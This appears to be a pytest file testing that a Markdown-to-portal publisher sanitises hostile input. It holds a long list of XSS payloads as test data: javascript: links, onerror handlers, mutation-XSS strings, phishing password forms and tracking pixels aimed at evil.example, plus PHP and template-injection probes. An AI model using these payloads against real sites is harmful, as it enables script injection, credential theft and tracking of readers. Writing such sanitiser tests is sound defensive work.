"""Hostile Markdown through the whole way to the stored block: nothing active, covering, imitating or loading is left.

What is asked of every page is one list of rules; the pages are the tricks that are known.
"""

import re

import markdown
import pytest
from bs4 import BeautifulSoup

from portal_emulator.landing.sanitiser import sanitise
from publisher.content.converted import LinkKind
from publisher.render.article import Article
from publisher.render.convert import Source, convert
from publisher.targets.knowledge_base.form import text_block

EXTENSIONS = ["toc", "extra", "admonition", "sane_lists", "publisher.render.extension"]
PAGES = [
    # scripts, in Markdown's own places
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x][1]\n\n[1]: vbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](img/a.png "\\" onerror=alert(1) \\"")',
    '![x](img/a.png){onerror="alert(1)" .landing-block-node-img}',
    "# Title {onclick=alert(1) style=position:fixed}",
    "[x](a.md){target=_top onmouseover=alert(1) download}",
    '!!! note "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>',
    '??? note "<svg onload=alert(1)>"\n    x',
    '=== "<iframe src=javascript:alert(1)>"\n\n    x',
    "> [!NOTE] <object data=x>\n> x",
    "- [ ] <input type=image src=x onerror=alert(1)>",
    "Text[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "Term\n:   <form action=https://evil.example><button>Sign in</button></form>",
    "| a |\n|---|\n| <embed src=x> |",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    '<div markdown="1" onclick="alert(1)">\n*x*\n</div>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<img src='x' / onerror = alert(1)>",
    "<body onload=alert(1)><p>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=https://evil.example></portal>",
    "<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script></xml>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    # forms and frames that ask for something
    "<form action=https://evil.example method=post><label>Password <input type=password></label></form>",
    "<textarea autofocus onfocus=alert(1)>x</textarea><select><option>x</select>",
    "<iframe src=https://evil.example/login width=100% height=900></iframe>",
    "<dialog open>Your session has ended</dialog>",
    "<fencedframe src=https://evil.example></fencedframe><frameset><frame src=x></frameset>",
    # style: cover the page, leave one's place, load something
    "<div style='position:absolute;inset:0;background:#fff'>Sign in</div>",
    "<p style='position: sticky; top: 0; z-index: 2147483647'>x</p>",
    "<p style='margin:-500px 0 0;transform:scale(50)'>x</p>",
    "<p style='background-image:url(https://evil.example/x)'>x</p>",
    "<p style='list-style:url(//evil.example/x);cursor:url(x),auto'>x</p>",
    "<p style='content:url(x);mask:url(x);filter:url(x#y)'>x</p>",
    "<p style='color:red;background-color:u\\72l(https://evil.example)'>x</p>",
    "<p style='width:100vw;height:100vh;max-width:none'>x</p>",
    "<p style='width:calc(100% + 900px)'>x</p>",
    "<p style='color:var(--x, url(x))'>x</p>",
    "<p style='-moz-binding:url(x);behavior:url(x)'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=preload as=image href=https://evil.example/x>",
    # the portal's own chrome
    "<header class='bx-layout-header landing-header'><a class='ui-btn ui-btn-primary' href=x>Sign in</a></header>",
    "<div class='popup-window' role=dialog aria-modal=true>Your password has expired</div>",
    "<nav class='landing-block-node-menu g-pos-fix' data-block-id=1>x</nav>",
    "<div data-kb-body='1'>x</div><div data-kb-add=title>x</div><span data-fileid=7>x</span>",
    "#landing12 [x](#landing12) [y](#block7) #title# #breadcrumb# #crm1",
    "$result[site] $result%5Bsite%5D",
    # who reads the page
    "![](https://evil.example/pixel.gif)",
    "<img src=//evil.example/pixel.gif width=1 height=1>",
    "<img src=x srcset='https://evil.example/x 2x' lowsrc=https://evil.example/x dynsrc=https://evil.example/x>",
    "<picture><source srcset=https://evil.example/x><img src=img/a.png></picture>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/x>x</table>",
    "<video poster=https://evil.example/x src=https://evil.example/y></video><audio src=https://evil.example/z autoplay></audio>",
    "<a href=https://good.example ping=https://evil.example>x</a>",
    "<input type=image src=https://evil.example/x>",
    "<blockquote cite=https://evil.example>x</blockquote><q cite=https://evil.example>x</q>",
    "<image src=https://evil.example/x><bgsound src=https://evil.example/x>",
    # programs of the portal's side
    "<?php system('id') ?> <?= 1 ?> <% x %>",
    "{{ 7*7 }} ${7*7} <%= 7*7 %>",
]
TAGS = frozenset(
    "a abbr address article aside b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn div dl dt "
    "em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p picture pre q rp rt ruby s "
    "samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr".split()
)
ATTRIBUTES = frozenset(
    "id title lang dir role alt width height colspan rowspan scope span start type reversed value open datetime name style href "
    "src target rel tabindex aria-label data-kb-add data-kb-glossary data-fileid data-kb".split()
)
ADDRESS = re.compile(r"(?:https?:|mailto:|tel:|/|#|[^:]*$)")
STYLE = re.compile(
    r"position:|z-index|url\(|expression|behavior|binding|transform:(?!rotate\(45deg\))|inset|var\(|calc\(|vw|vh|margin:-"
)


def block_of(source: str) -> tuple[str, str]:
    """The stored block of a page, and the page's own part of it."""
    converted = convert(markdown.markdown(source, extensions=EXTENSIONS), Source("a.md", source))
    article = Article(converted.segments)

    def resolved(what: Article) -> str:
        return what.resolve(
            page=lambda ref: f"#landing{len(ref.path)}", file=lambda _: "/f", image=lambda _: 'src="/upload/x.png"'
        )

    return resolved(text_block(article)), resolved(article)


@pytest.mark.parametrize("source", PAGES)
def test_no_trick_reaches_the_portal(source: str) -> None:
    """Only known elements and attributes, safe addresses, styles that stay in their place, nothing loaded from elsewhere."""
    block, own = block_of(source)
    tree = BeautifulSoup(own, "html.parser")

    assert sanitise(block) == block
    assert "<?" not in block
    for element in tree.find_all(True):
        assert element.name in TAGS
        classes = element.get("class") or []
        assert element.name == "code" or not classes
        assert all(name.startswith("language-") for name in classes)
        assert set(element.attrs) - {"class"} <= ATTRIBUTES
        assert not STYLE.search(str(element.get("style", "")))
        assert ADDRESS.match(str(element.get("href", "")))
        assert not re.match(r"(?:https?:)?//", str(element.get("src", "")))
        assert element.get("role") in {None, "note", "region", "img"}


@pytest.mark.parametrize(
    ("hosts", "address", "is_loaded"),
    [
        ((), "https://img.example.com/a.png", False),
        (("img.example.com",), "https://IMG.example.com:8443/a.png", True),
        (("img.example.com",), "//img.example.com/a.png", True),
        (("img.example.com",), "https://img.example.com.evil.example/a.png", False),
        (("img.example.com",), "https://evil.example/@img.example.com/a.png", False),
        (("img.example.com",), "https://img.example.com@evil.example/a.png", False),
        (("*.example.com",), "https://a.b.example.com/a.png", True),
        (("*.example.com",), "https://badexample.com/a.png", False),
        (("*",), "https://any.example/a.png", True),
    ],
)
def test_pictures_are_loaded_from_allowed_servers_only(hosts: tuple[str, ...], address: str, is_loaded: bool) -> None:
    """Any other server's picture is a link that a reader may follow; it is found as an external image all the same."""
    converted = convert(f'<p><img src="{address}" alt="Map"></p>', Source("a.md", "", image_hosts=hosts))
    tree = BeautifulSoup("".join(map(str, converted.segments)), "html.parser")

    assert [link.kind for link in converted.links] == [LinkKind.EXTERNAL_IMAGE]
    assert (tree.img is not None) is is_loaded
    assert is_loaded or (tree.a is not None and tree.a["href"] == address and tree.a.get_text() == "Map")


def test_a_badge_in_a_link_leaves_its_words() -> None:
    """A link in a link is none; without words there is nothing to show."""
    html = '<a href="https://a.example"><img src="https://b.example/x.svg" alt="Build"></a>'
    tree = BeautifulSoup("".join(map(str, convert(html, Source("a.md", "")).segments)), "html.parser")

    assert [link["href"] for link in tree.find_all("a")] == ["https://a.example"]
    assert tree.get_text() == "Build"
